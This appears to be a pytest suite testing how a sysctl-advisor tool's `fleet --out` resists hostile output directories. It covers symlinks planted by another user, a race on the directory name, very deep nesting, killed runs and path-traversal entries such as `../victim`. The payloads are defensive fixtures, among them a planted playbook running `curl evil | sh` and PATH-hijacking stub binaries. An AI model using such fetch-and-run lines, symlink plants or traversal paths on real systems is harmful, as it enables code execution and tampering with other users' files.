"""`fleet --out` against a hostile previous output, planted leftovers, a second user racing the
publish, killed runs and a filesystem without renameat2's exchange. Every payload is built here;
the second user is nobody (uid 65534), run with the system's interpreter from `/`. Nothing of
the user's may be deleted or written through a link, and a refusal is one line and exit 2."""

from __future__ import annotations

import errno
import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from sysctl_advisor.model import directories
from sysctl_advisor.outputs import fleet_outdir
from sysctl_advisor.outputs.fleet_outdir import MARKER, MARKER_HEADER
from tests.commands.test_fleet import GOOD, fleet, snapshot, tree_of
from tests.conftest import assert_one_line_error

NOBODY = 65534
ROOT_ONLY = pytest.mark.skipif(os.geteuid() != 0, reason="needs root to act as another user")
SYSTEM_PYTHON = shutil.which("python3", path="/usr/bin:/bin") or sys.executable


def _as_nobody() -> None:
    os.setgroups([])
    os.setgid(NOBODY)
    os.setuid(NOBODY)


def _nobody(script: str, *args: str) -> None:
    """Run `script` as nobody (its arguments in sys.argv[1:])."""
    subprocess.run(
        [SYSTEM_PYTHON, "-c", script, *args],
        preexec_fn=_as_nobody,
        cwd="/",
        check=True,
        capture_output=True,
    )


# A previous output whose marker lists one file DEPTH directories down, and that file.
DEPTH = 1500
DEEP = """
import os, sys
top, depth, marker, header = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4]
os.mkdir(top, 0o755)
fd = os.open(top, os.O_RDONLY | os.O_DIRECTORY)
for _ in range(depth):
    os.mkdir("a", dir_fd=fd)
    below = os.open("a", os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
    os.close(fd)
    fd = below
os.close(os.open("x", os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=fd))
os.close(fd)
with open(os.path.join(top, marker), "w") as f:
    f.write(header + "/".join(["a"] * depth) + "/x\\n")
"""


def _remove_chain(top: Path) -> None:
    """Remove a chain of nested directories deeper than a recursive rmtree can go."""
    fds = [os.open(top, os.O_RDONLY | os.O_DIRECTORY)]
    try:
        while "a" in os.listdir(fds[-1]):
            fds.append(os.open("a", os.O_RDONLY | os.O_DIRECTORY, dir_fd=fds[-1]))
        for parent, child in zip(reversed(fds[:-1]), reversed(fds[1:]), strict=True):
            for name in os.listdir(child):
                os.unlink(name, dir_fd=child)
            os.rmdir("a", dir_fd=parent)
    finally:
        for fd in fds:
            os.close(fd)


@pytest.mark.parametrize(
    "owner",
    ["mine", pytest.param("nobody's, in a sticky directory", marks=ROOT_ONLY)],
)
def test_a_deeply_nested_previous_output_is_refused_in_one_line(owner: str, tmp_path: Path) -> None:
    """A marker listing a file 1,500 directories down (and those directories) made the check
    of the previous run recurse past Python's limit: exit 3, an internal error. Another user
    can plant such an output where root is told to write (an empty or marked OUTDIR of another
    user's is taken as a previous run)."""
    parent = tmp_path
    args = (str(tmp_path / "out"), str(DEPTH), MARKER, MARKER_HEADER)
    if owner == "mine":
        subprocess.run([sys.executable, "-c", DEEP, *args], check=True)
    else:
        os.chmod(tmp_path, 0o755)
        parent = tmp_path / "shared"
        parent.mkdir(mode=0o1777)
        os.chmod(parent, 0o1777)
        args = (str(parent / "out"), *args[1:])
        _nobody(DEEP, *args)
    out = parent / "out"
    try:
        code, err = fleet("--ansible-facts", tree_of(tmp_path, GOOD), "-p", "base", "--out", out)
        assert_one_line_error(code, err)
        assert (out / MARKER).is_file() and (out / "a").is_dir()
    finally:
        _remove_chain(out)


def test_without_the_exchange_a_leftover_of_a_killed_run_does_not_stop_every_later_run(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Where renameat2 cannot exchange (an older kernel, a filesystem without it) the previous
    run is renamed to `.out.retired` and removed from there. A run killed while removing it
    left `.out.retired` behind, and every later run failed: "cannot publish: Directory not
    empty" (the rename of OUTDIR onto it)."""
    monkeypatch.setattr(fleet_outdir, "_renameat2", lambda *_: False)
    out = tmp_path / "out"
    tree = tree_of(tmp_path, GOOD)
    assert fleet("--ansible-facts", tree, "-p", "base", "--out", out)[0] == 0
    shutil.copytree(out, tmp_path / ".out.retired")  # killed after both renames, before removal
    code, err = fleet("--ansible-facts", tree, "-p", "frontend-proxy", "--out", out)
    assert code == 0, err
    assert "frontend-proxy" in (out / "summary.json").read_text()
    assert sorted(p.name for p in tmp_path.iterdir()) == [".out.sysctl-advisor.lock", "out", "tree"]


PLANT_OUT = """
import os, sys
out = sys.argv[1]
os.mkdir(out)
with open(os.path.join(out, "playbook.yml"), "w") as f:
    f.write("- hosts: all\\n  tasks: [{shell: 'curl evil | sh'}]\\n")
"""


@ROOT_ONLY
def test_without_the_exchange_another_user_never_gets_the_name(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """In a sticky directory, the two-rename publish left OUTDIR's name free between its
    renames: nobody took it with a directory holding a playbook, root's second rename failed
    ("Directory not empty"), and `out/playbook.yml` was nobody's (3 of 15 runs with a plain
    rename loop as nobody; here the window is opened on purpose)."""
    os.chmod(tmp_path, 0o755)
    parent = tmp_path / "shared"
    parent.mkdir()
    os.chmod(parent, 0o1777)
    out = parent / "out"
    tree = tree_of(tmp_path, GOOD)
    assert fleet("--ansible-facts", tree, "-p", "base", "--out", out)[0] == 0
    monkeypatch.setattr(fleet_outdir, "_renameat2", lambda *_: False)
    real_rename = os.rename

    def rename_then_race(*args: object, **kwargs: object) -> None:
        real_rename(*args, **kwargs)  # type: ignore[arg-type]
        if not os.path.lexists(out):  # the name is free: nobody takes it
            _nobody(PLANT_OUT, str(out))

    monkeypatch.setattr(os, "rename", rename_then_race)
    code, err = fleet("--ansible-facts", tree, "-p", "frontend-proxy", "--out", out)
    monkeypatch.undo()
    assert "Traceback" not in err and "internal error" not in err
    assert code in (0, 2), err
    info = out.lstat()
    assert info.st_uid == 0 and (out / MARKER).is_file(), "OUTDIR is no longer root's output"
    assert "curl" not in (out / "playbook.yml").read_text()


def _descriptors_into(place: Path) -> list[str]:
    found = []
    for fd in os.listdir("/proc/self/fd"):
        try:
            target = os.readlink(f"/proc/self/fd/{fd}")
        except OSError:
            continue
        if target.startswith(str(place)):
            found.append(target)
    return found


def test_a_staging_directory_whose_mark_cannot_be_written_is_not_left_behind(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A full disk (or quota) when the staging mark is written: the run said so in one line,
    but kept the staging directory open and left it, unmarked, where no later run removes
    it (one more for every failed run)."""
    real_write = directories.Directory.write

    def full_disk(self: directories.Directory, relative: str, text: str) -> None:
        if relative == ".staging":
            raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
        real_write(self, relative, text)

    monkeypatch.setattr(directories.Directory, "write", full_disk)
    code, err = fleet(
        "--ansible-facts", tree_of(tmp_path, GOOD), "-p", "base", "--out", tmp_path / "out"
    )
    assert_one_line_error(code, err)
    assert _descriptors_into(tmp_path) == []
    assert not list(tmp_path.glob(".out.staging-*"))


def test_no_program_is_run_from_the_callers_path_to_find_the_c_library(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The publish (renameat2) and each forked worker (prctl) found the C library with
    ctypes.util.find_library, which runs `gcc`/`cc`, `ld` and `objdump` found through the
    caller's PATH when `ldconfig -p` lists no libc (musl, a bare container): root ran them."""
    import ctypes.util

    if not hasattr(ctypes.util, "_findSoname_ldconfig"):
        pytest.skip("this Python finds libraries another way")
    ran = tmp_path / "ran"
    fake = tmp_path / "bin"
    fake.mkdir()
    for program in ("gcc", "cc", "ld", "objdump"):
        (fake / program).write_text(f"#!/bin/sh\necho {program} >> {ran}\nexit 1\n")
        (fake / program).chmod(0o755)
    monkeypatch.setattr(ctypes.util, "_findSoname_ldconfig", lambda name: None)
    monkeypatch.setenv("PATH", f"{fake}:{os.environ.get('PATH', '/usr/bin:/bin')}")
    tree = tree_of(tmp_path, GOOD, copies=80)  # enough hosts to fork workers
    out = tmp_path / "out"
    for _ in range(2):  # a new OUTDIR, then an exchange
        assert fleet("--ansible-facts", tree, "-p", "base", "--out", out, "-j", "2")[0] == 0
    assert not ran.exists(), ran.read_text()


# What holds.


@pytest.mark.parametrize("kind", ["fifo", "link", "directory", "over the cap"])
def test_a_marker_that_is_not_a_small_regular_file_is_no_marker(kind: str, tmp_path: Path) -> None:
    """Read by descriptor, never through a link, never blocking on a FIFO, never past its cap:
    the directory is then not a previous output, and is left as it is."""
    out = tmp_path / "out"
    (out / "host_files").mkdir(parents=True)
    (out / "host_files" / "mine.conf").write_text("mine\n")
    marker = out / MARKER
    if kind == "fifo":
        os.mkfifo(marker)
    elif kind == "link":
        real = tmp_path / "real-marker"
        real.write_text(MARKER_HEADER + "host_files/mine.conf\n")
        marker.symlink_to(real)
    elif kind == "directory":
        marker.mkdir()
    else:  # sparse: the size is checked before anything is read
        with marker.open("wb") as handle:
            handle.write(MARKER_HEADER.encode())
        os.truncate(marker, fleet_outdir.MAX_MARKER + 1)
    before = snapshot(out)
    code, err = fleet("--ansible-facts", tree_of(tmp_path, GOOD), "-p", "base", "--out", out)
    assert_one_line_error(code, err)
    assert "not a previous fleet output" in err
    assert snapshot(out) == before


def test_a_marker_listing_paths_outside_deletes_nothing_there(tmp_path: Path) -> None:
    """End to end: a previous output whose marker lists `..`, absolute and climbing paths
    (each of them real files) is replaced or refused, and none of them is deleted."""
    out = tmp_path / "out"
    assert fleet("--ansible-facts", tree_of(tmp_path, GOOD), "-p", "base", "--out", out)[0] == 0
    victim = tmp_path / "victim"
    victim.write_text("keep\n")
    listed = (out / MARKER).read_text()
    climbing = ["../victim", str(victim), "host_files/../../victim", "host_files//../../victim"]
    (out / MARKER).write_text(listed + "".join(f"{p}\n" for p in climbing))
    code, err = fleet("--ansible-facts", tree_of(tmp_path, GOOD), "-p", "base", "--out", out)
    assert code in (0, 2) and "Traceback" not in err and "internal error" not in err, err
    assert victim.read_text() == "keep\n"


def test_pool_names_that_climb_are_refused(tmp_path: Path) -> None:
    """Inventory group names become node_pools/ file names: one that climbs or hides is
    refused in one line before anything is written."""
    from tests.commands.test_fleet_pools import MAP

    (tmp_path / "map.yaml").write_text(MAP)
    for group in ("pool_/../../../victim", "pool_..", ".pool_x"):
        inventory = {"_meta": {"hostvars": {}}, group: {"hosts": ["dtn-01"]}}
        (tmp_path / "inventory.json").write_text(json.dumps(inventory))
        code, err = fleet(
            *["--ansible-facts", tree_of(tmp_path, ["dtn-01"]), "--profile-map"],
            *[tmp_path / "map.yaml", "--inventory", tmp_path / "inventory.json"],
            *["--node-pools", "*", "--out", tmp_path / "out"],
        )
        assert_one_line_error(code, err)
        assert not (tmp_path / "out").exists()


def test_forked_workers_and_many_runs_leak_no_descriptor(tmp_path: Path) -> None:
    """-j 2 with enough hosts to fork workers, five runs in one process, one refused: no
    descriptor into the output's directory stays open."""
    tree = tree_of(tmp_path, GOOD, copies=80)
    out = tmp_path / "out"
    for _ in range(4):
        assert fleet("--ansible-facts", tree, "-p", "base", "--out", out, "-j", "2")[0] == 0
    (out / "mine.txt").write_text("mine\n")
    assert fleet("--ansible-facts", tree, "-p", "base", "--out", out, "-j", "2")[0] == 2
    assert _descriptors_into(tmp_path) == []


PLANT_LEFTOVERS = """
import os, sys
parent, victim, marker, header, mark = sys.argv[1:6]
os.symlink(victim, os.path.join(parent, ".out.retired"))
os.symlink(victim, os.path.join(parent, ".out.staging-00000000"))
theirs = os.path.join(parent, ".out.staging-11111111")
os.mkdir(theirs)
for name, text in ((".staging", mark), (marker, header + "data\\n"), ("data", "theirs\\n")):
    with open(os.path.join(theirs, name), "w") as f:
        f.write(text)
"""


@ROOT_ONLY
@pytest.mark.parametrize("exchange", [True, False], ids=["renameat2", "two renames"])
def test_leftovers_another_user_planted_are_neither_followed_nor_taken(
    exchange: bool, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """In a sticky directory nobody plants `.out.retired` and a staging name as links to a
    victim directory, and a staging directory of their own carrying the advisor's marks: two
    runs (a new OUTDIR, then a replacement) follow no link, and leave theirs alone. (With two
    renames the planted `.out.retired` link makes the replacement fail: "cannot publish: Not a
    directory", every run, until it is removed.)"""
    if not exchange:
        monkeypatch.setattr(fleet_outdir, "_renameat2", lambda *_: False)
    os.chmod(tmp_path, 0o755)
    parent = tmp_path / "shared"
    parent.mkdir()
    os.chmod(parent, 0o1777)
    victim = tmp_path / "victim"
    (victim / "host_files").mkdir(parents=True)
    (victim / "host_files" / "a.conf").write_text("keep\n")
    (victim / MARKER).write_text(MARKER_HEADER + "host_files/a.conf\n")
    before = snapshot(victim)
    _nobody(
        PLANT_LEFTOVERS,
        *[str(parent), str(victim), MARKER, MARKER_HEADER, fleet_outdir.STAGING_MARK],
    )
    theirs = parent / ".out.staging-11111111"
    out = parent / "out"
    for profile in ("base", "frontend-proxy"):
        code, err = fleet("--ansible-facts", tree_of(tmp_path, GOOD), "-p", profile, "--out", out)
        if exchange or profile == "base":
            assert code == 0, err
        else:  # two renames cannot move OUTDIR onto their link: a refusal, OUTDIR kept
            assert code == 0 or (code == 2 and len(err.strip().splitlines()) == 1), err
            assert (out / MARKER).is_file()
    assert snapshot(victim) == before
    assert (theirs / "data").read_text() == "theirs\n" and theirs.stat().st_uid == NOBODY
    assert out.lstat().st_uid == 0 and not out.is_symlink()
